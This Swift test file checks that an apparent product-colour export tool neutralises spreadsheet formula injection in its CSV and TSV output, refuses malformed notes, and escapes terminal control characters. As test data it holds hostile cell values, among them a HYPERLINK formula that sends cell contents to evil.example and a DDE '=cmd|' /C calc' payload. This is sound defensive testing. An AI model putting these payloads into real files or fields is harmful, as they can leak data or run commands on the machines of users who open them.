import Foundation
import HuewallColorWords
import HuewallStore
import Testing

@testable import HuewallExport

/// The CSV cell rule over every CSV and TSV Huewall writes: a value a spreadsheet would run as
/// a formula gets a leading apostrophe, and a value a shop matches byte for byte (Merchant's
/// id, Shopify's handle and title) is written exactly or its row is left out and named.
@Suite struct SpreadsheetCellTests {
  static let hostile = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+1-2", "-2+3", "@SUM(A1:A9)",
    "\tleading tab", "\rleading return", "=cmd|' /C calc'!A0", "\u{FF1D}1+1",
  ]

  @Test(arguments: hostile)
  func aFormulaGetsAnApostrophe(text: String) {
    #expect(SpreadsheetCell.inert(text) == "'" + text)
  }

  @Test(arguments: ["plain", "", "Navy", "#1b2a4a", "a=b", "1+2", " =spaced", "'quoted"])
  func otherTextIsUnchanged(text: String) {
    #expect(SpreadsheetCell.inert(text) == text)
    #expect(SpreadsheetCell.exact(text) == text)
  }

  @Test func anExactValueIsKeptOnlyWhenNoSpreadsheetCanRunIt() {
    #expect(SpreadsheetCell.exact("+1-2") == "+1-2")
    #expect(SpreadsheetCell.exact("-tee_2.0 Été") == "-tee_2.0 Été")
    #expect(SpreadsheetCell.exact("=HYPERLINK(\"x\")") == nil)
    #expect(SpreadsheetCell.exact("@SUM(A1:A9)") == nil)
    #expect(SpreadsheetCell.exact("=A1") == nil)
    #expect(SpreadsheetCell.exact("-cmd|'/C calc'!A0") == nil)
    #expect(SpreadsheetCell.exact("\tx") == nil)
  }

  func product(
    _ id: String, title: String, brand: String? = nil, link: String? = nil,
    shopName: String? = nil
  ) -> ColorsDocument.ExportedProduct {
    var color = ColorsDocument.ExportedColor(
      h: 0.6, s: 0.8, v: 1, hex: "#3377ff", share: 0.9, family: .blue)
    color.shopName = shopName
    var product = ColorsDocument.ExportedProduct(
      id: id, title: title, brand: brand, vendorColor: "@vendor", vendorFamily: nil,
      link: link, imageUrl: "=IMAGE(\"https://i.example/a.jpg\")", position: 1, family: .blue,
      disagreement: false, colors: [color])
    product.confidence = 1
    return product
  }

  /// No cell begins a formula.
  func expectNoFormula(_ cells: [String]) {
    for cell in cells { #expect(!SpreadsheetCell.startsFormula(cell), "\(cell)") }
  }

  @Test func colorsCSVMakesEveryCellInert() throws {
    let csv = ColorsCSV.render(
      [
        product(
          "+1-2", title: "=HYPERLINK(\"https://evil.example\",\"x\")", brand: "@SUM(A1:A9)",
          link: "-2+3", shopName: "=1+1")
      ], colorColumns: 1)
    let records = Array(CSVRecords(csv))
    try #require(records.count == 2)
    let header = records[0].fields
    let row = Dictionary(uniqueKeysWithValues: zip(header, records[1].fields))
    #expect(row["id"] == "'+1-2")
    #expect(row["title"] == "'=HYPERLINK(\"https://evil.example\",\"x\")")
    #expect(row["brand"] == "'@SUM(A1:A9)")
    #expect(row["vendorColor"] == "'@vendor")
    #expect(row["link"] == "'-2+3")
    #expect(row["imageUrl"] == "'=IMAGE(\"https://i.example/a.jpg\")")
    #expect(row["color1_shopName"] == "'=1+1")
    expectNoFormula(records.flatMap(\.fields))
  }

  @Test func shopifyKeepsHandleAndTitleExactOrLeavesTheRowOut() throws {
    let output = ShopifyMetafields.render(
      [
        product("1", title: "-Plus tee", link: "https://shop.example/products/-plus-tee"),
        product(
          "2", title: "=HYPERLINK(\"https://evil.example\")",
          link: "https://shop.example/products/mug"),
        product("3", title: "Cap", link: "https://shop.example/products/%3Dcmd%7C'x'!A0"),
        product("4", title: "Scarf", link: "https://shop.example/products/scarf", shopName: "@x"),
      ], includeUnsure: true)
    let records = Array(CSVRecords(output.csv))
    try #require(records.map { $0.fields.first } == ["Handle", "-plus-tee", "scarf"])
    #expect(records[1].fields[1] == "-Plus tee")
    #expect(records[2].fields[4] == "'@x")
    #expect(output.products == 2)
    #expect(output.notInCSV == ["2", "3"])
    #expect(!output.csv.contains("HYPERLINK"))
    expectNoFormula(records.flatMap { $0.fields.dropFirst(2) })
  }

  /// Merchant reads a supplemental feed from a Google Sheet too, where `+1-2` becomes -1: an
  /// id that begins a formula at all, full-width forms included, is in the XML only.
  @Test func merchantKeepsTheIdExactOrLeavesTheItemOut() throws {
    let items: [MerchantSupplemental.Item] = [
      .init(id: "+1-2", color: "Navy"), .init(id: "=HYPERLINK(\"x\")", color: "Red"),
      .init(id: "A\tB", color: "Red"), .init(id: "A3", color: "@SUM(A1:A9)"),
      .init(id: "-4", color: "-Blue"), .init(id: "-2+3", color: "Red"),
      .init(id: "+1+1", color: "Red"), .init(id: "@5", color: "Red"),
      .init(id: "\u{FF0B}1", color: "Red"), .init(id: "\u{FF20}6", color: "Red"),
      .init(id: "\u{FF1D}7", color: "Red"), .init(id: "\u{FF0D}8", color: "Red"),
      .init(id: "B-9", color: "Red"),
    ]
    let (text, leftOut) = MerchantSupplemental.tsv(items)
    #expect(text == "id\tcolor\nA3\t'@SUM(A1:A9)\nB-9\tRed\n")
    #expect(
      leftOut == [
        "+1-2", "=HYPERLINK(\"x\")", "A\tB", "-4", "-2+3", "+1+1", "@5", "\u{FF0B}1",
        "\u{FF20}6", "\u{FF1D}7", "\u{FF0D}8",
      ])
    // The XML form, which no spreadsheet runs, still carries every item.
    let xml = MerchantSupplemental.xml(items, title: "t", link: nil)
    #expect(xml.contains("<g:id>=HYPERLINK(&quot;x&quot;)</g:id>"))
  }
}

/// A note is checked once, for `set-color`, its CSV and `/api/color`: no NUL, at most 2,000
/// characters.
@Suite struct NoteCheckTests {
  @Test func aNoteIsTrimmedAndAnEmptyOneIsNone() throws {
    #expect(try OverrideInput.note("  studio light \n", product: "P") == "studio light")
    #expect(try OverrideInput.note(" ", product: "P") == nil)
    #expect(try OverrideInput.note(nil, product: "P") == nil)
  }

  @Test func aNULIsRefusedNamingTheProduct() throws {
    let error = #expect(throws: OverrideInput.Failure.self) {
      try OverrideInput.note("studio\0light", product: "HW-005")
    }
    #expect(error?.message.contains("product HW-005") == true)
    #expect(error?.message.contains("NUL") == true)
  }

  @Test func aNoteOfAtMost2000CharactersIsKept() throws {
    let longest = String(repeating: "é", count: 2_000)
    #expect(try OverrideInput.note(longest, product: "P") == longest)
    let error = #expect(throws: OverrideInput.Failure.self) {
      try OverrideInput.note(longest + "x", product: "P")
    }
    #expect(error?.message.contains("2001 characters") == true)
    #expect(error?.message.contains("2000") == true)
  }

  @Test func theCSVRefusesTheLineNamingItAndKeepsTheOthers() throws {
    let long = String(repeating: "x", count: 2_001)
    let (lines, refused) = try OverrideInput.parse(
      csv: "id,family,note\nA,navy,fine\nB,red,cut\0here\nC,blue,\(long)\n")
    #expect(lines.map(\.id) == ["A"])
    try #require(refused.count == 2)
    #expect(refused[0].hasPrefix("line 3: product B:"))
    #expect(refused[1].hasPrefix("line 4: product C:"))
  }

  @Test func aDecisionWithANULIsNotMade() throws {
    let line = OverrideInput.Line(line: 2, id: "A", family: "navy", hex: nil, note: "a\0b")
    #expect(throws: OverrideInput.Failure.self) {
      try line.override(
        target: OverrideTarget(productID: "A", imageSHA256: nil, isRemoved: false), at: Date())
    }
  }
}

/// Terminal output shows the control characters of data escaped.
@Suite struct TerminalTextTests {
  @Test func controlsAreEscaped() {
    #expect(TerminalText.escaped("plain naïve ✓ \\n") == "plain naïve ✓ \\n")
    #expect(TerminalText.escaped("a\nb\r\tc") == "a\\nb\\r\\tc")
    #expect(TerminalText.escaped("\u{1B}[2J\u{1B}]0;x\u{07}") == "\\u{1B}[2J\\u{1B}]0;x\\u{7}")
    #expect(
      TerminalText.escaped("\0\u{7F}\u{9B}\u{202E}\u{2028}")
        == "\\u{0}\\u{7F}\\u{9B}\\u{202E}\\u{2028}")
  }
}

/// The cell rule end to end: the files an export and a write-back write, and the summary that
/// names what was left out.
@Suite struct SpreadsheetFilesTests {
  @Test func exportAndWriteBackFollowTheCellRule() async throws {
    let scratch = try Scratch()
    defer { scratch.cleanUp() }
    let blue = [color(0.6, 0.8, 0.9, share: 0.95, hex: "#3377ff")]
    let (store, set) = try makeStore(
      in: scratch,
      seeds: [
        Seed(
          id: "=HYPERLINK(\"https://evil.example\")", title: "Mug", brand: "@SUM(A1:A9)",
          link: "https://shop.example/products/mug", colors: blue),
        Seed(
          id: "+1-2", title: "=HYPERLINK(\"https://evil.example\")",
          link: "https://shop.example/products/cap", colors: blue),
        Seed(id: "A3", title: "Tee", link: "https://shop.example/products/tee", colors: blue),
      ])
    defer { try? store.close() }
    let exporter = Exporter(store: store)
    _ = try await exporter.export(parameterSet: set, to: scratch.url("out"))
    let csv = try String(contentsOf: scratch.url("out/colors.csv"), encoding: .utf8)
    let cells = Array(CSVRecords(csv)).flatMap(\.fields)
    #expect(cells.contains("'+1-2"))
    #expect(cells.contains("'@SUM(A1:A9)"))
    #expect(!cells.contains { SpreadsheetCell.startsFormula($0) })

    let merchant = try await exporter.writeBack(
      .merchantSupplemental, parameterSet: set, to: scratch.url("shop"), includeUnsure: true)
    let tsv = try String(
      contentsOf: scratch.url("shop/merchant-supplemental.tsv"), encoding: .utf8)
    #expect(tsv.hasPrefix("id\tcolor\n"))
    #expect(!tsv.contains("+1-2"), "a sum in a spreadsheet: in the XML only")
    #expect(tsv.contains("\nA3\t"))
    #expect(!tsv.contains("HYPERLINK"))
    let xml = try String(
      contentsOf: scratch.url("shop/merchant-supplemental.xml"), encoding: .utf8)
    #expect(xml.contains("<g:id>=HYPERLINK("))
    #expect(merchant.written == 3)
    #expect(xml.contains("<g:id>+1-2</g:id>"))
    #expect(
      Set(merchant.notInSpreadsheet) == ["=HYPERLINK(\"https://evil.example\")", "+1-2"])
    #expect(
      merchant.description.contains(
        "2 left out of the TSV, which cannot hold their id both exactly and safe from a "
          + "spreadsheet (the CSV cell rule), in the XML only: "))
    #expect(merchant.description.contains("product +1-2"))

    let shopify = try await exporter.writeBack(
      .shopifyMetafields, parameterSet: set, to: scratch.url("shop"), includeUnsure: true)
    let shopifyCSV = try String(
      contentsOf: scratch.url("shop/shopify-metafields.csv"), encoding: .utf8)
    let rows = Array(CSVRecords(shopifyCSV)).map { $0.fields.first ?? "" }
    #expect(rows.contains("mug") && rows.contains("tee") && !rows.contains("cap"))
    #expect(shopify.notInSpreadsheet == ["+1-2"])
    #expect(shopify.description.contains("in the JSON lines only: product +1-2"))
  }
}
